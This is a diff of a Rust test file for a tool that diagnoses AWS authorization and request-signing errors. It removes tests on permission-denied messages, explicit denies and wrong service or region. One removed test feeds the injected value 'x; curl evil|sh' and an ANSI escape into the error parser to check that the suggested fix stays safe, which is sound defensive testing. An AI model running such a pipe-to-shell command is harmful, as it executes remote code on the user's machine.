@@ -1,7 +1,9 @@
 //! Diagnoses of AWS's texts in each of their forms.
 
 mod cases;
+mod permissions;
 mod reference;
+mod values;
 
 use proptest::prelude::*;
 
@@ -264,145 +266,5 @@ fn with_headers(body: &str, headers: &[(&str, &str)]) -> Evidence {
             body: None,
         }),
         ..evidence(body)
-    }
-}
-
-#[test]
-fn permission_denied_of_other_programs_is_not_a_rejection_by_aws() {
-    for other in [
-        "git@github.com: Permission denied (publickey).",
-        "bash: ./deploy.sh: Permission denied",
-        "PermissionError: [Errno 13] Permission denied: '/etc/shadow'",
-        "ERROR: Permission denied for table rooms",
-        "java.nio.file.AccessDeniedException: /etc/shadow: Permission denied",
-        r#"{"message":"Permission denied for relation rooms"}"#,
-    ] {
-        check(other, "unknown");
-    }
-    for of_appsync in [
-        "Permission denied",
-        r#"{"errors":[{"errorType":"UnauthorizedException","message":"Permission denied"}]}"#,
-        "UnauthorizedException: Permission denied",
-    ] {
-        check(of_appsync, "not-authorized");
-    }
-    let bare = diagnose(&evidence("Permission denied"));
-    assert_eq!(bare.confidence, Confidence::Likely);
-}
-
-#[test]
-fn a_denied_request_without_a_signature_is_not_called_signed() {
-    let denied = "Not Authorized to access rooms on type Query";
-    for (header, caller, directive) in [
-        (("x-api-key", "da2-abc"), "an API key", "@aws_api_key"),
-        (("authorization", "eyJabc.def.ghi"), "a token", "@aws_oidc"),
-        (("authorization", "Bearer eyJabc"), "a token", "@aws_oidc"),
-    ] {
-        for body in [denied, "Permission denied"] {
-            let found = diagnose(&with_headers(body, &[header]));
-            assert_eq!(found.cause, Some(Cause::NotAuthorized), "{found:?}");
-            assert!(found.summary.contains(caller), "{found:?}");
-            assert!(found.fix.unwrap().contains(directive), "{header:?}");
-            assert_eq!(found.denial, None);
-        }
-    }
-    let signature = "AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20260115/eu-central-1/appsync/aws4_request, \
-                     SignedHeaders=host, Signature=ab";
-    let found = diagnose(&with_headers(denied, &[("authorization", signature)]));
-    let fix = found.fix.unwrap();
-    let command = "echo 'query { rooms }' | countersign policy --region eu-central-1 -";
-    assert!(fix.ends_with(command), "{fix}");
-    assert!(found.hint.unwrap().ends_with(command));
-}
-
-#[test]
-fn an_explicit_deny_is_not_fixed_by_allowing_the_action() {
-    let text = "User: arn:aws:iam::111122223333:user/a is not authorized to perform: execute-api:Invoke on \
-                resource: arn:aws:execute-api:us-east-1:********3333:a1/prod/GET/o with an explicit deny";
-    let anonymous = text.replace("arn:aws:iam::111122223333:user/a", "anonymous");
-    let authorizer = "User is not authorized to access this resource with an explicit deny";
-    for (message, confidence) in [
-        (text, Confidence::Certain),
-        (&anonymous, Confidence::Certain),
-        (authorizer, Confidence::Likely),
-    ] {
-        for body in forms("AccessDeniedException", message) {
-            let found = diagnose(&evidence(&body));
-            assert_eq!(found.cause, Some(Cause::NotAuthorized), "{body}");
-            assert_eq!(found.confidence, confidence, "{body}");
-            assert!(found.denial.unwrap().explicit_deny, "{body}");
-            assert!(found.summary.contains("explicit"), "{}", found.summary);
-            for text in [found.fix.unwrap(), found.hint.unwrap()] {
-                assert!(!text.contains("Allow execute-api"), "{text}");
-                assert!(text.contains("deny") || text.contains("Deny"), "{text}");
-            }
-        }
-    }
-    check(
-        "User is not authorized to access this resource",
-        "not-authorized",
-    );
-}
-
-#[test]
-fn an_operation_that_aws_cannot_determine_is_a_wrong_route() {
-    let text = "Unable to determine service/operation name to be authorized";
-    for body in forms("AccessDeniedException", text) {
-        check(&body, "no-such-route");
-    }
-}
-
-#[test]
-fn the_fix_names_the_service_and_the_region_that_aws_expects() {
-    let text = |name: &str| format!("Credential should be scoped to correct service: '{name}'.");
-    let found = diagnose(&evidence(&text("execute-api")));
-    let fix = found.fix.unwrap();
-    assert!(
-        fix.contains("SigV4Auth(credentials, \"execute-api\", region)"),
-        "{fix}"
-    );
-    assert!(!fix.contains("SERVICE"), "{fix}");
-    let hint = found.hint.unwrap();
-    assert!(
-        hint.contains("countersign --service execute-api URL"),
-        "{hint}"
-    );
-    for hostile in ["", "\u{1b}[31m", "x; curl evil|sh", "X", &"a".repeat(41)] {
-        let found = diagnose(&evidence(&text(hostile)));
-        assert_eq!(
-            found.fix,
-            Some(Cause::WrongService.fix_with_code()),
-            "{hostile:?}"
-        );
-    }
-    let text = "Credential should be scoped to a valid Region, not 'us-east-1'. ";
-    let host = "a1.execute-api.eu-west-1.amazonaws.com";
-    let found = diagnose(&with_headers(text, &[("host", host)]));
-    let hint = found.hint.unwrap();
-    assert!(
-        hint.contains("countersign --region eu-west-1 URL"),
-        "{hint}"
-    );
-}
-
-#[test]
-fn the_denied_action_and_its_identity_are_read_from_the_text() {
-    let text = "User: arn:aws:iam::111122223333:user/a is not authorized to perform: execute-api:Invoke on \
-                resource: arn:aws:execute-api:us-east-1:********3333:a1/prod/GET/o because no identity-based \
-                policy allows the execute-api:Invoke action";
-    for body in forms("AccessDeniedException", text) {
-        let denial = diagnose(&evidence(&body)).denial.unwrap();
-        assert_eq!(
-            denial.identity.as_deref(),
-            Some("arn:aws:iam::111122223333:user/a"),
-            "{body}"
-        );
-        assert_eq!(
-            denial.action.as_deref(),
-            Some("execute-api:Invoke"),
-            "{body}"
-        );
-        let resource = "arn:aws:execute-api:us-east-1:********3333:a1/prod/GET/o";
-        assert_eq!(denial.resource.as_deref(), Some(resource), "{body}");
     }
 }
